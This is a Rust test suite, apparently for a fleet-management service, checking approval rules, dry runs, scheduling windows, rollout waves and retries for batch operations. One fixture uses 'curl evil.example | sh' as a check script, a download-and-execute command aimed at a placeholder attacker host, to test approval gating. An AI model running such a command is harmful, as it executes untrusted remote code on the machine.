//! Who decides, and how the work is done for real.

use super::*;
use crate::{
    access::Actor,
    devices::groups::GROUP_NOT_FOUND,
    kernel::{Code, INVALID},
    work::{
        approvals::{APPROVAL_NOT_A_PERSON, APPROVAL_OWN},
        batch::{KEY_REUSED, RETRY_NOT_IDEMPOTENT, batch_id_for_key, release_due},
        plans::{NewPlan, PlanChange, start_due},
        promotions::NO_DRY_RUN,
        rollouts::Phase,
    },
};

#[tokio::test]
async fn whoever_asked_decides_where_nobody_else_has_to() {
    let looking = Looking::new(1).await.looked(&[WouldChange]).await;
    assert!(looking.approval().await.requester_may_agree);
    fails(looking.approve(&looking.work.test.admin()).await, APPROVAL_NOT_A_PERSON);
    looking.approve(&asks(&looking.work)).await.unwrap();
    assert_eq!(looking.real().await.runs, 1);
}

#[tokio::test]
async fn others_decide_where_others_have_to() {
    let asked = Looking::with(1, |request, _| request.approvals = Some(2)).await;
    assert_eq!(
        asked.work.states_of(asked.batch.id).await,
        ["queued 1"],
        "looking waits for nobody"
    );
    let asked = asked.looked(&[WouldChange]).await;
    assert_eq!(
        (
            asked.approval().await.needed,
            asked.approval().await.requester_may_agree
        ),
        (2, false)
    );
    fails(asked.approve(&asks(&asked.work)).await, APPROVAL_OWN);
    let one = asked.approve(&agrees(&asked.work)).await.unwrap();
    assert_eq!(one.standing, ApprovalStanding::Open);
    assert_eq!(asked.promotion().await.promoted_to, None);
    asked.approve(&user(&asked.work, 3, Role::Operator)).await.unwrap();
    let real = asked.real().await;
    assert_eq!(real.runs, 1);

    // To do it again takes as many, and to look again takes nobody.
    for (of, states) in [(real.id, ["awaiting_approval 1"]), (asked.batch.id, ["queued 1"])] {
        let (batches, admin) = (asked.work.test.fleet.batches(), asked.work.test.admin());
        batches.cancel(&admin, of).await.unwrap();
        let run = asked.work.only_run_of(of).await.id;
        let again = batches.retry_run(&admin, run, None).await.unwrap();
        assert_eq!(asked.work.states_of(again.id).await, states);
    }
}

#[tokio::test]
async fn a_dry_run_that_runs_a_script_waits_for_all_that_its_work_waits_for() {
    let script = |request: &mut BatchRequest, _: &Work| {
        request.operation = "shell".into();
        request.params = json!({"script": "touch /tmp/x", "check_script": "curl evil.example | sh"}).into();
        request.approvals = Some(1);
    };
    let asked = Looking::with(1, script).await;
    assert_eq!(asked.work.states_of(asked.batch.id).await, ["awaiting_approval 1"]);
    let looking = asked.shown().await.approval.unwrap();
    fails(asked.work.approve(&asks(&asked.work), looking).await, APPROVAL_OWN);
    asked.work.approve(&agrees(&asked.work), looking).await.unwrap();
    assert_eq!(asked.work.states_of(asked.batch.id).await, ["queued 1"]);
    let asked = asked.looked(&[WouldChange]).await;
    asked.approve(&agrees(&asked.work)).await.unwrap();
    assert_eq!(asked.real().await.runs, 1);

    let refused = Looking::with(1, script).await;
    let looking = refused.shown().await.approval.unwrap();
    refused.work.reject(&agrees(&refused.work), looking).await.unwrap();
    refused.tick(0).await;
    refused.check_ended(PromotionStanding::Stopped).await;

    let later = |request: &mut BatchRequest, work: &Work| {
        script(request, work);
        (request.approvals, request.start_at) = (None, Some(work.now().plus(HOUR)));
    };
    let looking = Looking::with(1, later).await;
    assert_eq!(looking.work.states_of(looking.batch.id).await, ["scheduled 1"]);
}

#[tokio::test]
async fn settings_ask_for_others_also_when_they_changed_while_it_looked() {
    let looking = Looking::new(1).await;
    looking.work.set("work.approvals_for", json!("everything")).await;
    let looking = looking.looked(&[WouldChange]).await;
    assert!(!looking.approval().await.requester_may_agree);
    fails(looking.approve(&asks(&looking.work)).await, APPROVAL_OWN);
    // What follows asks nobody a second time.
    looking.approve(&agrees(&looking.work)).await.unwrap();
    assert_eq!(looking.real().await.approval, None);
    assert_eq!(looking.work.states_of(looking.real().await.id).await, ["queued 1"]);
}

#[tokio::test]
async fn the_dry_run_goes_at_once_and_the_work_when_it_was_asked_for() {
    let later = |request: &mut BatchRequest, work: &Work| request.start_at = Some(work.now().plus(HOUR));
    let looking = Looking::with(1, later).await;
    assert_eq!(looking.work.states_of(looking.batch.id).await, ["queued 1"]);
    let looking = looking.looked(&[WouldChange]).await;
    looking.work.advance(60);
    looking.approve(&asks(&looking.work)).await.unwrap();
    let real = looking.real().await;
    assert_eq!(looking.work.states_of(real.id).await, ["scheduled 1"]);
    looking.work.advance(3_540);
    release_due(looking.work.test.fleet.clone()).await.unwrap();
    assert_eq!(looking.work.states_of(real.id).await, ["queued 1"]);

    // A time that has passed by then is at once.
    let looking = Looking::with(1, later).await.looked(&[WouldChange]).await;
    looking.work.advance(7_200);
    looking.approve(&asks(&looking.work)).await.unwrap();
    assert_eq!(looking.work.states_of(looking.real().await.id).await, ["queued 1"]);
}

#[tokio::test]
async fn the_work_heeds_windows_unless_it_was_asked_not_to() {
    for (ignore_windows, expected) in [
        (None, "scheduled 1"),
        (Some(false), "scheduled 1"),
        (Some(true), "queued 1"),
    ] {
        let looking = Looking::with(1, |request, _| request.ignore_windows = ignore_windows).await;
        let window = json!({
            "name": "Freeze", "kind": "blackout", "scope": {"all": true}, "outside": {"policy": "gate"},
            "when": {"type": "once", "starts_at": looking.work.now(), "ends_at": looking.work.now().plus(HOUR)},
        });
        let window = serde_json::from_value(window).unwrap();
        let fleet = &looking.work.test.fleet;
        fleet
            .windows()
            .create(&looking.work.test.admin(), &window)
            .await
            .unwrap();
        assert_eq!(looking.work.states_of(looking.batch.id).await, ["queued 1"]);
        let looking = looking.looked(&[WouldChange]).await;
        looking.approve(&asks(&looking.work)).await.unwrap();
        let real = looking.real().await.id;
        assert_eq!(looking.work.states_of(real).await, [expected], "{ignore_windows:?}");
    }
}

#[tokio::test]
async fn the_work_goes_wave_by_wave_and_its_dry_run_does_not() {
    let rollout = json!({"waves": [{"type": "count", "devices": 1}]});
    let looking = Looking::with(3, |request, _| {
        request.rollout = serde_json::from_value(rollout).unwrap()
    })
    .await;
    assert!(!looking.batch.rolls_out);
    let looking = looking.looked(&[WouldChange, WouldChange, Unchanged]).await;
    looking.approve(&asks(&looking.work)).await.unwrap();
    let real = looking.real().await;
    assert!(real.rolls_out);
    let rollout = looking
        .work
        .test
        .fleet
        .rollouts()
        .show(&looking.work.test.admin(), real.id)
        .await
        .unwrap();
    assert_eq!((rollout.runs, rollout.phase), (2, Phase::Rolling));
    assert_eq!(looking.work.states_of(real.id).await, ["queued 1", "scheduled 1"]);
}

#[tokio::test]
async fn the_work_is_tried_again_and_its_dry_run_is_not() {
    let retry = json!({"attempts": 2});
    let looking = Looking::with(2, |request, _| request.retry = serde_json::from_value(retry).unwrap()).await;
    assert_eq!(looking.batch.retry, None);
    let looking = looking.looked(&[WouldChange, Fails]).await;
    assert_eq!(looking.promotion().await.terms.retry.unwrap().attempts, 2);
    looking.approve(&asks(&looking.work)).await.unwrap();
    assert_eq!(looking.real().await.retry.unwrap().attempts, 2);
}

#[tokio::test]
async fn what_cannot_look_first_is_refused_before_anything_is_stored() {
    let check = async |change: fn(&mut BatchRequest), code: Code, field: &str| {
        let work = Work::new().await;
        let mut request = work.file(&[work.device]);
        change(&mut request);
        let refused = work.create(&request).await.unwrap_err();
        assert_eq!((refused.code(), refused.fields()[0].pointer.as_str()), (code, field));
        assert_eq!(work.count::<super::super::super::Batch>().await, 0);
    };
    let refresh = |request: &mut BatchRequest| {
        request.operation = "inventory.refresh".into();
        request.params = json!({}).into();
    };
    check(refresh, NO_DRY_RUN, "/dry_run_first").await;
    let dry = |request: &mut BatchRequest| request.params["dry_run"] = true.into();
    check(dry, INVALID, "/params/dry_run").await;
    let reboot = |request: &mut BatchRequest| {
        request.operation = "reboot".into();
        request.params = json!({}).into();
        request.timeout_seconds = None;
        request.retry = Some(serde_json::from_value(json!({"attempts": 1})).unwrap());
    };
    check(reboot, RETRY_NOT_IDEMPOTENT, "/retry").await;
    let nobody = |request: &mut BatchRequest| {
        let group = "019aa5b2-4c6e-7a30-8f21-5d0c6b7e9a41";
        let rollout = json!({"waves": [{"type": "groups", "groups": [group]}]});
        request.rollout = Some(serde_json::from_value(rollout).unwrap());
    };
    check(nobody, GROUP_NOT_FOUND, "/rollout/waves").await;
}

#[tokio::test]
async fn a_repeat_is_absorbed_and_the_same_without_looking_is_another_request() {
    let work = Work::new().await;
    let request = BatchRequest {
        ignore_windows: Some(true),
        ..work.file(&[work.device])
    };
    let key = Some(batch_id_for_key(&Actor::Anonymous, "/batches", "look"));
    let (batches, admin) = (work.test.fleet.batches(), work.test.admin());
    let first = batches.create(&admin, &request, key).await.unwrap();
    assert_eq!(batches.create(&admin, &request, key).await.unwrap().id, first.id);
    let at_once = BatchRequest {
        dry_run_first: false,
        ..request
    };
    fails(batches.create(&admin, &at_once, key).await, KEY_REUSED);
}

#[tokio::test]
async fn each_time_of_a_plan_looks_first() {
    let work = Work::new().await;
    let new = json!({
        "name": "Message", "operation": "file", "params": file("Welcome\n"), "targets": {"devices": [work.device]},
        "schedule": {"type": "cron", "cron": "0 * * * *", "zone": "UTC"}, "dry_run_first": true, "retry": {"attempts": 1},
    });
    let new: NewPlan = serde_json::from_value(new).unwrap();
    let (plans, asks) = (work.test.fleet.plans(), asks(&work));
    let plan = plans.create(&asks, &new).await.unwrap();
    assert!(plan.dry_run_first && plan.retry.is_some());
    assert_eq!(plan.params, file("Welcome\n"));
    let seconds = plan.next_at.unwrap().since(work.now()).as_secs();
    work.advance(seconds);
    start_due(work.test.fleet.clone()).await.unwrap();
    let filter = crate::work::batch::BatchFilter {
        plan: Some(plan.id),
        ..Default::default()
    };
    let batches = work.test.fleet.batches();
    let page = batches.list(&asks, &filter, &PageRequest::default()).await.unwrap();
    let looking = Looking {
        devices: vec![work.device],
        batch: page.items.into_iter().next().unwrap(),
        work,
    };
    let looking = looking.looked(&[WouldChange]).await;
    // The schedule asked, and whoever changed the plan last answers for it.
    assert_eq!(looking.approval().await.requested_by, *asks.actor());
    looking.approve(&asks).await.unwrap();
    let real = looking.real().await;
    assert_eq!((real.plan, real.cause), (Some(plan.id), Cause::Promotion));

    let plans = looking.work.test.fleet.plans();
    let change = PlanChange {
        operation: Some("inventory.refresh".into()),
        params: Some(json!({}).into()),
        ..PlanChange::default()
    };
    fails(plans.set(&asks, plan.id, None, &change).await, NO_DRY_RUN);
    let change = PlanChange {
        dry_run_first: Some(false),
        ..change
    };
    assert!(!plans.set(&asks, plan.id, None, &change).await.unwrap().dry_run_first);
}
